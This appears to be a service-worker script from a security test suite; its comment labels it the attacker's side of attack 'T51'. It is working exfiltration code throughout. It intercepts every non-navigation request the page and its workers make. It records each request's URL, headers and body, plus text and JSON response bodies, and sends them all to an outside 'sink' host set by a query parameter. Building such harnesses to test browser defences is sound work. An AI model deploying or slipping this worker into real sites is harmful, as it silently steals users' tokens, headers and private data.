/** The attacker's: reports what each request of the page and of its workers carries and is answered. See T51 in ../attacks. */
const { searchParams } = new URL(location.href);
const attack = searchParams.get("attack");
const batch = `${searchParams.get("sink")}/batch`;

addEventListener("install", () => skipWaiting());
addEventListener("activate", (event) => event.waitUntil(clients.claim()));
addEventListener("fetch", (event) => {
  const { request } = event;
  if (request.mode === "navigate" || request.url === batch) return;
  const answer = fetch(request.clone());
  event.respondWith(answer.then((response) => response.clone()));
  event.waitUntil(hear(request, answer));
});

async function hear(request, answer) {
  await tell(`${request.url} ${JSON.stringify([...request.headers])} ${await request.text()}`);
  const response = await answer;
  const isText = /json|text\/plain/.test(response.headers.get("content-type") ?? "");
  if (isText) await tell(await response.clone().text());
}

const tell = (loot) => fetch(batch, { method: "POST", mode: "no-cors", body: JSON.stringify([[attack, loot]]) });
